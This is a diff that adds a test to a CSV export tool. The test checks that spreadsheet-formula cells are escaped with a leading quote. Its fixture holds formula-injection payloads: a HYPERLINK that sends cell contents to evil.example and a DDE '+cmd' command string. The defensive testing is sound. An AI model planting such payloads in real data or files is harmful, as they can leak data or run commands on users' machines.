@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import datetime
 
@@ -71,3 +72,39 @@ def test_unknown_format_is_a_usage_error(backend: Backend, stored: list[Receipt]
     err = io.StringIO()
     assert export(backend.url, KEY, io.StringIO(), fmt="xml", err=err) == 2  # type: ignore[arg-type]
     assert "xml" in err.getvalue()
+
+
+FORMULAS = {
+    "policy_version": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "rule": "+cmd|' /C calc'!A0",
+    "method": "-2+3",
+    "client": "@SUM(1,1)",
+    "locale": "\tde",
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_guarded(backend: Backend) -> None:
+    values = dict(FORMULAS)
+    stored = fill(
+        backend,
+        [
+            decision(
+                "v1",
+                policy_version=values["policy_version"],
+                rule=values["rule"],
+                method=values["method"],
+                client=values["client"],
+                locale=values["locale"],
+            ),
+            decision("v2", client="'quoted", rule="\rlate"),
+        ],
+    )
+    out = io.StringIO()
+    assert export(backend.url, KEY, out, fmt="csv") == 0
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for name, value in values.items():
+        assert rows[0][name] == "'" + value
+    assert rows[1]["client"] == "''quoted" and rows[1]["rule"] == "'\rlate"
+    assert rows[1]["consent_id"] == "v2"  # ordinary values are left alone
+    out.seek(0)
+    assert list(read_csv(out)) == stored  # guarded cells read back to the signed values
